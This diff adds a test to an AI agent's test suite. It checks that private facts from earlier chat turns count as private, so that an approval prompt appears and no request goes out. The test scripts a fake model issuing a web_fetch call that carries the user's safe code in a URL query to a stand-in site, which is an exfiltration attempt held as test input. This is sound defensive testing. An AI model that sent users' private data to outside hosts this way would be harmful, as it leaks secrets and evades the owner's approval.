@@ -122,3 +122,16 @@ def test_every_tool_the_model_is_offered_has_a_flow_and_a_tier(tmp_path: Path) -
     for name, capability in table.capabilities().items():
         assert capability in FLOWS, f"{name} ({capability}) declares no flow"
         assert capability in ruled, f"{name} ({capability}) has no tier in the Soul"
+
+
+async def test_earlier_turns_of_the_chat_count_as_private(tmp_path: Path) -> None:
+    """The conversation so far reaches the model with the request (it may quote a private
+    file): an address the owner did not give asks first, even with no fact remembered."""
+    async with FakeSite() as site, web_stage(tmp_path, **fetching()) as lancelot:
+        lancelot.model(final("Your safe's code is the dog's birthday."))
+        await lancelot.say("what is my safe's code?")
+        lancelot.model(call("web_fetch", url=f"{site.url}/c?q=dogs-birthday"))
+        card = await lancelot.say("check the weather")
+        assert card.title.startswith("Approve"), card
+        assert "holds private data from memory" in card.body
+    assert site.hits == []
